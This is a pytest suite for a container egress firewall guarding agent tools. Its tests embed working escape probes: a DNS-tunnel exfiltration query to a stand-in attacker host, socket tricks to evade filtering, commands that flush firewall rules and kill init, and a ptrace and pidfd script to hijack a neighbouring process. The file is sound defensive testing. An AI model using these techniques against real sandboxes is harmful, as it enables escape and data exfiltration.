"""The wall: what the policy doesn't allow can't leave, whatever kind of packet it is, and is told
so at once; in the cell, which keeps sockets rather than packets, not at once. Judged on the wire, not
by what the payload believes. One file, since all of it is tried by the same program."""

import json
import re

import pytest
from conftest import SCOPED, WALLS, at_best, until
from internet import DNS_ADDRESS, Wire, address_of

# Tries each destination as an agent's tool could, and prints what came of it and how long it took. On
# the web's ports it is the gate that takes the connection, and refuses in words. Whatever else goes on
# may make an attempt longer, and none shorter.
TRY = r"""
import concurrent.futures, errno, json, os, socket, sys, time
seconds = float(sys.argv[2]) if len(sys.argv) > 2 else 3
def attempt(kind, address, port):
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    began, said = time.monotonic(), "ok"
    try:
        if kind == "tcp":
            with socket.create_connection((address, port), timeout=seconds) as s:
                s.sendall(b"leaked-bytes\r\n\r\n")
                if port in (443, 80) and s.recv(1000).startswith(b"HTTP/1.1 400 "):
                    said = "refused by the gate"
        else:
            s = socket.socket(family, socket.SOCK_DGRAM)
            s.settimeout(seconds)
            s.connect((address, port))
            s.send(b"leaked-bytes")
            s.send(b"leaked-bytes")  # an ICMP error for the first shows at the second
            s.recv(100)
    except OSError as e:
        said = errno.errorcode.get(e.errno, str(e))
    return said, time.monotonic() - began
def at_best(kind, address, port):
    took = []
    while not took or said not in ("ok", "timed out") and min(took) >= 1 and len(took) < 3:
        said, seconds = attempt(kind, address, port)
        took.append(seconds)
    return json.dumps([kind, address, port, said, min(took)])
# At once where the cell lets each wait for seconds; else one by one, as each is timed.
with concurrent.futures.ThreadPoolExecutor(20 if "127.0.0.1:" in os.getenv("ALL_PROXY", "") else 1) as pool:
    for line in pool.map(lambda place: at_best(*place), json.loads(sys.argv[1])):
        print(line)
"""


def attempt(run, destinations, seconds=3, **rest):
    """seconds: the patience of each; longer where one is to be answered."""
    done = run("python3", "-c", TRY, json.dumps(destinations), str(seconds), **rest).ok()
    results = [json.loads(line) for line in done.lines() if line.startswith("[")]
    assert len(results) == len(destinations), done
    return results


def refused(results, wall="nft"):
    """In the cell a place that isn't there doesn't answer, and there are neither UDP nor IPv6."""
    for kind, address, port, said, seconds in results:
        if wall != "nft":
            expected = {"EACCES"} if kind == "udp" else {"timed out", "ETIMEDOUT", "EHOSTUNREACH", "ENETUNREACH"}
            assert said in ({"EAFNOSUPPORT"} if ":" in address else expected), (kind, address, port, said)
            continue
        assert said not in ("ok", "timed out"), (kind, address, port, said)
        assert seconds < 1, (kind, address, port, said, seconds)


PUBLIC = [
    ("tcp", "8.8.8.8", 443),
    ("tcp", "8.8.8.8", 80),
    ("tcp", "93.184.216.34", 22),
    ("tcp", "1.1.1.1", 853),
    ("udp", "8.8.8.8", 443),
    ("udp", "8.8.8.8", 123),
    ("udp", "93.184.216.34", 4500),
]
INSIDE = [
    ("tcp", "10.0.0.1", 443),
    ("tcp", "172.16.0.1", 80),
    ("tcp", "172.31.255.1", 80),
    ("tcp", "172.31.255.2", 22),
    ("tcp", "192.168.1.1", 80),
    ("tcp", "100.64.0.1", 443),
    ("tcp", "169.254.169.254", 80),
    ("tcp", "169.254.1.1", 80),
    ("udp", "10.0.0.1", 161),
    ("udp", "169.254.169.254", 80),
    ("udp", "192.168.1.255", 137),
]
SPECIAL = [
    ("udp", "224.0.0.251", 5353),
    ("udp", "239.255.255.250", 1900),
    ("tcp", "198.18.0.1", 443),
    ("tcp", "240.0.0.1", 443),
    ("tcp", "0.0.0.1", 80),
]


@pytest.mark.parametrize(
    "wall, destinations",
    [*(("nft", some) for some in (PUBLIC, INSIDE, SPECIAL)),
     *((name, PUBLIC + INSIDE + SPECIAL) for name in WALLS if name != "nft")],
    indirect=["wall"], ids=["public", "inside", "special", "flagless", "no capability", "plain uid"],
)  # fmt: skip
def test_what_no_rule_allows_is_refused_at_once(run, sinks, wire, wall, destinations):
    refused(attempt(run, destinations), wall)
    assert sinks.seen() == []
    assert [f for f in wire.seen() if f.address != DNS_ADDRESS] == []


def test_the_same_leaves_without_the_wall(run, sinks):
    """The opposite: the very attempts above do arrive when codex-init is a plain init."""
    attempt(run, PUBLIC, init=["--egress=off"])
    assert set(sinks.seen()) >= set(PUBLIC)


# Here, and at neighbours, the cell: test_cell_attacks.py
def test_the_gateway_is_refused_and_without_the_wall_it_is_not(run, wire):
    gateway = [("tcp", Wire.GATEWAY, 22), ("udp", Wire.GATEWAY, 53), ("tcp", Wire.GATEWAY, 53)]
    results = attempt(run, [gateway[0]])
    refused(results)
    assert wire.to(Wire.GATEWAY) == []
    attempt(run, [gateway[0]], init=["--egress=off"])
    assert wire.to(Wire.GATEWAY) != []


@pytest.mark.cell
def test_tools_get_an_error_not_a_hang(shell, wall):
    """In the cell they use the gate as their proxy, which says no in an answer."""
    script = """
        for target in https://8.8.8.8 http://10.0.0.1 http://169.254.169.254/latest \
            http://[2001:4860:4860::8888]/; do
            s=$(date +%s%N); curl -gsS -m 30 $target; r=$?; e=$(date +%s%N)
            echo "status $r $(((e - s) / 1000000))"
        done"""

    def longest():
        done = shell(script).ok()
        told = [line.split() for line in done.lines() if line.startswith("status ")]
        statuses, times = zip(*((int(status), int(ms)) for _, status, ms in told))
        # The web's ports of public addresses are the gate's, which answers with an alert.
        assert statuses == ((35, 7, 7, 7) if wall == "nft" else (56, 0, 0, 0)), done
        return max(times) / 1000

    at_best(longest, 1)


@pytest.mark.cell
def test_an_allowed_name_opens_only_its_own_ports(run, sinks, wall):
    address = address_of("example.com")
    tried = [("tcp", address, 22), ("tcp", address, 8443), ("udp", address, 443)]
    script = "import urllib.request as u; u.urlopen('https://example.com').read()\n" + TRY
    done = run("python3", "-c", script, json.dumps(tried), allow="example.com").ok()
    refused([json.loads(line) for line in done.lines() if line.startswith("[")], wall)
    assert sinks.seen() == [("tcp", address, 443)]


RAW = r"""
import errno, socket
def tried(name, *kind):
    try:
        socket.socket(*kind).close()
        print(name, "opened")
    except OSError as e:
        print(name, errno.errorcode[e.errno])
tried("raw", socket.AF_INET, socket.SOCK_RAW, 1)
tried("raw6", socket.AF_INET6, socket.SOCK_RAW, 58)
tried("ping", socket.AF_INET, socket.SOCK_DGRAM, 1)
tried("packet", socket.AF_PACKET, socket.SOCK_RAW, 3)
tried("vsock", socket.AF_VSOCK, socket.SOCK_STREAM, 0)
tried("sctp", socket.AF_INET, socket.SOCK_STREAM, 132)
tried("udplite", socket.AF_INET, socket.SOCK_DGRAM, 136)
tried("bluetooth", 31, socket.SOCK_RAW, 1)
tried("alg", 38, socket.SOCK_SEQPACKET, 0)
tried("tcp", socket.AF_INET, socket.SOCK_STREAM, 0)
tried("udp", socket.AF_INET, socket.SOCK_DGRAM, 0)
tried("unix", socket.AF_UNIX, socket.SOCK_STREAM, 0)
tried("netlink", socket.AF_NETLINK, socket.SOCK_RAW, 0)
"""


@pytest.mark.cell("all")
def test_sockets_that_no_tool_needs_cannot_be_opened(run, wire, wall):
    results = dict(line.split() for line in run("python3", "-c", RAW).ok().lines())
    for name in ("raw", "raw6", "packet", "vsock", "sctp", "bluetooth", "alg"):
        assert results.pop(name) != "opened", name
    assert results.pop("udp") == ("opened" if wall == "nft" else "EACCES")
    for name in ("tcp", "unix", "netlink"):
        assert results.pop(name) == "opened", name
    assert wire.seen() == []


@pytest.mark.cell("all")
def test_ping_does_not_leave(shell, wire, wall):
    """ICMP by the unprivileged kind of socket, where the kernel's settings allow it."""
    script = """python3 - <<'E'
import socket
try:
    s = socket.socket(2, 2, 1)
    s.sendto(bytes([8, 0, 0xf7, 0xff, 0, 0, 0, 0]), ("8.8.8.8", 0))
    print("sent")
except OSError as e:
    print(e)
E"""
    shell(script, options=["--sysctl", "net.ipv4.ping_group_range=0 2147483647"]).ok()
    assert [f for f in wire.seen() if f.protocol == "icmp"] == []
    if wall != "nft":
        return
    shell(
        script,
        options=["--sysctl", "net.ipv4.ping_group_range=0 2147483647"],
        init=["--egress=off", "--user", "1000"],
    ).ok()


@pytest.mark.cell("all")
def test_the_payload_has_no_say_over_the_wall(shell, sinks, wire, wall):
    done = shell(
        """
        exec 2>&1
        iptables -F; iptables -P OUTPUT ACCEPT; ip route del prohibit 10.0.0.0/8
        ip route add default via 172.30.0.1; ip link set eth0 down; ip addr add 1.2.3.4/32 dev lo
        unshare -Urn true; ls -l /proc/1/fd; kill -9 1; echo x >/proc/sys/net/ipv4/ip_forward
        curl -sS -m 3 https://8.8.8.8; curl -sS -m 3 https://8.8.8.8:8443"""
    )
    assert done.status == (7 if wall == "nft" else 56), done
    assert ("alert" if wall == "nft" else "response 403") in done.out, done
    assert sinks.seen() == []
    assert {f.address for f in wire.seen()} <= {DNS_ADDRESS}


@pytest.mark.cell(own_uid=True)  # the other forms share a uid: test_cell_attacks.py
def test_the_payload_cannot_touch_our_processes(shell):
    done = shell(
        r"""
        for p in /proc/[0-9]*; do
            [ "$(stat -c %u $p 2>/dev/null)" = "$(id -u)" ] && continue
            n=${p#/proc/}; echo "process $n $(cat $p/comm)"
            kill -KILL $n 2>/dev/null && echo "BROKEN: killed $n"
            cat $p/environ >/dev/null 2>&1 && echo "BROKEN: read $n"
            ls $p/fd >/dev/null 2>&1 && echo "BROKEN: listed $n"
        done; true"""
    ).ok()
    assert "process 1 codex-init" in done.out
    assert len(done.lines()) >= 2, "the resolver lives beside PID 1"
    assert "BROKEN" not in done.out


@pytest.mark.cell(own_uid=True)
def test_the_control_directory_is_roots(shell):
    done = shell(
        "touch /run/codex/x 2>/dev/null && echo BROKEN; cat /run/codex/control 2>/dev/null"
        " && echo BROKEN; stat -c %U /run/codex"
    ).ok()
    assert done.lines() == ["root"]


def test_another_container_is_refused(start, run, wire, docker):
    """Neighbours on the bridge can't be reached, by name or by address."""
    server = start("python3", "-m", "http.server", "-b", "0.0.0.0", "8000", init=["--egress=off"])
    until(
        lambda: "Serving" in server.logs()
        or server.exec("bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/8000").status == 0
    )
    address = server.address()
    refused(attempt(run, [("tcp", address, 8000), ("udp", address, 8000)]))
    assert wire.to(address) == []
    assert attempt(run, [("tcp", address, 8000)], 30, init=["--egress=off"])[0][3] == "ok"


# The cell: test_cell.py
def test_a_neighbour_cannot_come_in(start, run):
    """Input is walled as well: a server of the payload's is for itself only."""
    box = start("python3", "-m", "http.server", "-b", "0.0.0.0", "8000")
    probe = ("bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/8000")
    until(lambda: box.exec(*probe, user="1000").status == 0)
    knock = [("tcp", box.address(), 8000)]
    assert attempt(run, knock, init=["--egress=off"])[0][3] != "ok"


@pytest.mark.parametrize(
    "rule, shut",
    [("10.0.0.0/24:443+private", "10.9.9.9"), ("0.0.0.0/0:443+private", "169.254.169.254")],
)
def test_a_rule_opens_its_own_network_in_both_fences(start, lab, wire, rule, shut):
    """The wall, and with it torn down the routes: what the rule is for is open, what lies around it,
    or is special, is not."""
    box = start("sleep", "600", allow=rule)
    until(lambda: box.exec("test", "-s", "/run/codex/status.json").status == 0)
    tried = [("tcp", "10.0.0.9", 443), ("tcp", shut, 443), ("udp", shut, 443)]
    for _ in ("wall", "routes"):
        wire.mark()
        done = box.exec("python3", "-c", TRY, json.dumps(tried), user="1000").ok()
        refused([json.loads(line) for line in done.lines()][1:])
        assert {f.address for f in wire.seen()} == {"10.0.0.9"}
        lab.engine.in_container(box.name, "nft", "flush", "ruleset")


def test_the_routes_are_a_fence_of_their_own(start, lab, wire):
    """With the wall torn down by somebody who may, what is private is still out of reach."""
    box = start("sleep", "600")
    until(lambda: box.exec("test", "-s", "/run/codex/status.json").status == 0)
    lab.engine.in_container(box.name, "nft", "flush", "ruleset")
    wire.mark()
    private = [place for place in INSIDE if place[1] != Wire.GATEWAY]
    done = box.exec("python3", "-c", TRY, json.dumps(private), user="1000").ok()
    refused([json.loads(line) for line in done.lines()])
    assert wire.seen() == []
    # What is public would now leave: so it was the wall that kept it in.
    box.exec("python3", "-c", TRY, json.dumps([("udp", "8.8.8.8", 4500)]), user="1000").ok()
    assert ("udp", "8.8.8.8", 4500) in wire.seen()


LISTEN = """
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.bind(("0.0.0.0", 8000))
print("bound", flush=True)
while True:
    print("heard", s.recv(100), flush=True)
"""


@pytest.mark.parametrize("options, heard", [([], False), (["--egress=off"], True)])
def test_a_neighbour_cannot_even_be_heard(start, run, options, heard):
    """One datagram is enough to tell a tool what to do, and needs no way back."""
    box = start("python3", "-u", "-c", LISTEN, init=options)
    box.until_says("bound")
    send = f"echo -n outside >/dev/udp/{box.address()}/8000"
    run("bash", "-c", send, init=["--egress=off"]).ok()
    # What came in before this one is told before it.
    box.exec("bash", "-c", "echo -n inside >/dev/udp/127.0.0.1/8000").ok()
    box.until_says("inside")
    assert ("outside" in box.logs()) == heard


@pytest.mark.cell("all")
def test_loopback_is_open(shell):
    done = shell(
        """
        python3 -m http.server -b 127.0.0.1 8000 >/dev/null 2>&1 & 
        for i in $(seq 1000); do curl -so /dev/null http://127.0.0.1:8000 && break; sleep 0.05; done
        curl -sS -o /dev/null -w '%{http_code}\\n' http://127.0.0.1:8000; kill $!"""
    ).ok()
    assert done.lines()[-1] == "200"


IPV6 = [
    ("tcp", "2001:4860:4860::8888", 443),
    ("udp", "2001:4860:4860::8888", 443),
    ("tcp", "fd77:1:5::1", 80),
    ("tcp", "fd00::1", 80),
    ("udp", "ff02::fb%eth0", 5353),
    ("tcp", "::ffff:8.8.8.8", 443),
    ("tcp", "64:ff9b::808:808", 443),
]


@pytest.mark.cell
def test_ipv6_is_as_strict(run, network, sinks, wire, wall):
    name = network("--ipv6", "--subnet", "fd77:1:5::/64") if wall == "nft" else None
    refused(attempt(run, IPV6, network=name), wall)
    assert sinks.seen() == []
    assert [f for f in wire.seen() if f.port != 53] == []
    if wall != "nft":
        return
    attempt(run, IPV6[:2], network=name, init=["--egress=off"])
    assert set(IPV6[:2]) <= set(sinks.seen())


# The cell starts on no such network (test_cell_attacks.py); its gate is the same.
def test_ipv6_of_an_allowed_name_is_open(run, network, dns, sinks):
    dns.add("six.test", "2a0f:77:6::6")
    name = network("--ipv6", "--subnet", "fd77:1:6::/64")
    done = run("curl", "-sS", "https://six.test/", allow="six.test", network=name).ok()
    assert "six.test" in done.out
    assert sinks.seen() == [("tcp", "2a0f:77:6::6", 443)]


EMBEDDED = r"""
import re, socket, struct
query = bytes.fromhex("123401000001000000000000")
query += b"\x06secret\x08attacker\x04test\0" + b"\0\1\0\1"
ports = [53]
for name in ("/proc/net/tcp", "/proc/net/udp"):
    for local in (line.split()[1] for line in open(name).read().splitlines()[1:]):
        if local.startswith("0B00007F:"):
            ports.append(int(local[9:], 16))
print(sorted(set(ports)))
for port in ports:
    for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):
        try:
            s = socket.socket(socket.AF_INET, kind)
            s.settimeout(1)
            s.connect(("127.0.0.11", port))
            s.send(query if kind == socket.SOCK_DGRAM else struct.pack("!H", len(query)) + query)
            print(port, len(s.recv(512)))
        except OSError as e:
            print(port, e)
"""


def test_the_engines_embedded_resolver_is_no_tunnel(run, network, dns, sinks):
    """On a user-defined network 127.0.0.11 forwards questions; the payload reaches none of it."""
    name = network()
    done = run("python3", "-c", EMBEDDED, network=name).ok()
    ports = json.loads(done.lines()[0])
    assert len(ports) >= 2, "the embedded resolver's real ports are known to the test"
    assert dns.asked("attacker.test") == []
    assert not sinks.carried(b"secret")
    run("python3", "-c", EMBEDDED, network=name, init=["--egress=off"]).ok()
    assert dns.asked("attacker.test") != []


# The cell doesn't start there: test_cell_attacks.py
def test_names_work_on_a_user_defined_network(run, network, sinks):
    run("curl", "-sS", "https://api.openai.com/", network=network()).ok()
    assert sinks.seen() == [("tcp", address_of("api.openai.com"), 443)]
    assert run("curl", "-sS", "https://example.com/", network=network()).status != 0
    assert sinks.addresses() == {address_of("api.openai.com")}


def test_other_tables_stay_as_they_were(start, network, lab):
    """The engine's own NAT for its resolver is in this namespace too."""

    def nat(box):
        listing = lab.engine.in_container(box.name, "iptables-save", "-t", "nat")
        return [
            re.sub(r"(:|--sport )\d+", "port", l)
            for l in listing.splitlines()
            if l.startswith("-A")
        ]

    name = network()
    plain = start("sleep", "600", network=name, init=["--egress=off"])
    walled = start("sleep", "600", network=name)
    until(lambda: walled.exec("test", "-s", "/run/codex/status.json").status == 0)
    assert nat(plain) == nat(walled) and "127.0.0.11" in "".join(nat(plain))
    tables = lab.engine.in_container(walled.name, "nft", "list", "tables")
    assert "table inet codex_init" in tables
    assert "codex" not in lab.engine.in_container(plain.name, "nft", "list", "tables")


@pytest.mark.cell(own_uid=True)
def test_the_wall_stands_before_the_hook(run, tmp_path, sinks):
    home = tmp_path / "in"
    home.mkdir()
    hook = home / "init.sh"
    hook.write_text(
        "#!/bin/bash\ncurl -sS https://api.openai.com/;"
        "curl -sS -m 3 https://8.8.8.8 https://example.com;"
        "grep CapBnd /proc/self/status; id -u\n"
    )
    hook.chmod(0o755)
    done = run("true", options=["-v", f"{home}:/run/codex/in:ro"]).ok()
    assert "this is api.openai.com" in done.out
    assert "1000" in done.lines() and "CapBnd:\t0000000000000000" in done.lines()
    assert sinks.seen() == [("tcp", address_of("api.openai.com"), 443)]


def test_audit_lets_through_and_records(shell, sinks):
    done = shell(
        "curl -sS https://example.com; grep -c example.com /run/codex/events.jsonl",
        init=["--egress=audit"],
    ).ok()
    assert ("tcp", address_of("example.com"), 443) in sinks.seen()
    assert "--allow example.com" in done.err, done
    assert "codex-init: would have refused " in done.err, done


def test_a_network_rule_opens_just_that_network_and_port(run, sinks):
    tried = [("tcp", "45.60.1.9", 5432), ("tcp", "45.60.1.9", 5433), ("tcp", "45.60.2.9", 5432)]
    results = attempt(run, tried, 30, allow="45.60.1.0/24:5432")
    assert results[0][3] == "ok"
    refused(results[1:])
    assert sinks.seen() == [("tcp", "45.60.1.9", 5432)]


def test_a_private_network_needs_its_suffix(run, sinks):
    tried = [("tcp", "10.20.0.9", 5432), ("tcp", "10.21.0.9", 5432)]
    assert attempt(run, tried, 30, allow="10.20.0.0/16:5432+private")[0][3] == "ok"
    assert sinks.seen() == [("tcp", "10.20.0.9", 5432)]


def test_a_private_network_without_it_is_refused(run, sinks):
    done = run(
        "python3", "-c", TRY, json.dumps([("tcp", "10.20.0.9", 5432)]), allow="10.20.0.0/16:5432"
    )
    if done.status == 0:  # a rule that can't open anything may also be refused as a mistake
        refused([json.loads(line) for line in done.lines()])
    else:
        assert done.status == 100
    assert sinks.seen() == []


def test_root_by_the_engines_door_is_walled_too(start, sinks):
    """`docker exec` as root brings a process that codex-init never saw; the wall holds for it."""
    box = start("sleep", "600", allow="allowed.test")
    until(lambda: box.exec("test", "-s", "/run/codex/status.json").status == 0)
    for target in ("https://8.8.8.8", "http://10.0.0.1", "https://example.com"):
        assert box.exec("curl", "-sS", "-m", "30", target).status in (6, 7, 35)
    assert sinks.seen() == []


# Looks for a process beside it that has what it lacks, and would take it over.
TAKE_OVER = r"""
import ctypes, json, os
libc = ctypes.CDLL(None, use_errno=True)
for pid in [int(p) for p in os.listdir("/proc") if p.isdigit()]:
    try:
        if b"holds-a-socket" not in open(f"/proc/{pid}/cmdline", "rb").read().split(bytes(1)): continue
    except OSError: continue
    done = []
    try: os.kill(pid, 0); done.append("signal")
    except OSError: pass
    try: os.open(f"/proc/{pid}/mem", os.O_RDWR); done.append("mem")
    except OSError: pass
    if libc.ptrace(0x4206, pid, 0, 0) == 0: done.append("ptrace")
    fd = libc.syscall(434, pid, 0)
    if fd >= 0 and libc.syscall(438, fd, 3, 0) >= 0: done.append("descriptor")
    print(json.dumps(done))
"""


@pytest.mark.parametrize("wall", [name for name in WALLS if name != "nft"], indirect=True)
def test_what_is_started_beside_the_command_is_not_taken_over(boxes):
    """`docker exec` isn't in the cell. Of the command's own uid it is out of reach as the workers are:
    on kernels with Landlock's scopes (SECURITY.md)."""
    box = boxes()
    hold = "import socket, time; s = socket.socket(2, 2); time.sleep(600)"
    box.docker("exec", "-d", "-u", box.user, box.name, "python3", "-c", hold, "holds-a-socket").ok()
    said = until(lambda: box.inside("python3", "-c", TAKE_OVER).ok().lines(), what="the process")
    done = set(json.loads(said[0]))
    assert done == set() or (box.shared and not SCOPED), done
    assert "descriptor" not in done


@pytest.mark.cell
def test_a_big_policy(run, sinks):
    """Two thousand names that do not exist, and the one that does still works."""
    names = " ".join(f"n{i}.nowhere.test" for i in range(2000))
    get = ("curl", "-sS", "-o", "/dev/null", "https://allowed.test")
    at_best(lambda: run(*get, allow=f"{names} allowed.test").ok().seconds, 20)
    assert sinks.addresses() == {address_of("allowed.test")}


FRAGMENTS = r"""
import socket
# A datagram in three fragments, and one with IP options, to where nothing may go.
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for options, size in ((b"", 4000), (bytes([7, 7, 4, 0, 0, 0, 0, 0]), 100)):
    try:
        s.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, options)
        s.sendto(b"leaked-bytes" * (size // 12), ("8.8.8.8", 4500))
    except OSError as e:
        print(e)
# TCP Fast Open carries data in its SYN, and connect() is never called.
t = socket.socket()
try:
    t.sendto(b"leaked-bytes", 0x20000000, ("8.8.8.8", 443))
except OSError as e:
    print(e)
# Other ways to name the same place.
for address in ("8.8.2056", "0x08080808", "134744072"):
    for port in (443, 8443):
        try:
            with socket.create_connection((address, port), 2) as u:
                u.send(b"leaked-bytes\r\n\r\n")
                print(port, u.recv(100))
            if port == 8443:  # the other is the gate's
                print("BROKEN", address)
        except OSError as e:
            print(e)
# A socket bound to a device, or with a mark, routes differently where that is allowed.
for level, option, value in ((1, 25, b"eth0\0"), (1, 36, b"\x01\0\0\0"), (0, 15, b"\x01\0\0\0")):
    for port in (443, 8443):
        u = socket.socket()
        u.settimeout(2)
        try:
            u.setsockopt(level, option, value)
        except OSError as e:
            print(option, e)
        try:
            u.connect(("8.8.8.8", port))
            u.send(b"leaked-bytes\r\n\r\n")
            print(option, port, u.recv(100))
            if port == 8443:
                print("BROKEN option", option)
        except OSError as e:
            print(option, e)
"""


# In the cell each is a test of test_cell_attacks.py
def test_tricks_with_sockets(run, wire):
    done = run("python3", "-c", FRAGMENTS).ok()
    assert "BROKEN" not in done.out
    assert wire.seen() == []
    assert not wire.carried(b"leaked")
